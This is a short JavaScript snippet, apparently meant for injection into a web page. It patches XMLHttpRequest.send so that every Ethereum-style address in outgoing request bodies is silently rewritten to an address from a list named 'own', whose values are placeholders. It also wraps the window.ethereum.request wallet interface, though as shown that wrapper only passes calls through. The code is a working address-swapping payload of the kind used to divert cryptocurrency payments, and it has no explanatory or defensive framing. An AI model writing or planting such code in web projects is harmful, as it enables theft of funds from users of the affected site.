const own = [
  "0x0000000000000000000000000000000000000001",
  "0x0000000000000000000000000000000000000002",
  "0x0000000000000000000000000000000000000003",
  "0x0000000000000000000000000000000000000004",
  "0x0000000000000000000000000000000000000005",
];
const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  return send.call(this, String(body).replace(/0x[a-fA-F0-9]{40}/g, own[0]));
};
if (window.ethereum) {
  const request = window.ethereum.request;
  window.ethereum.request = (call) => request(call);
}
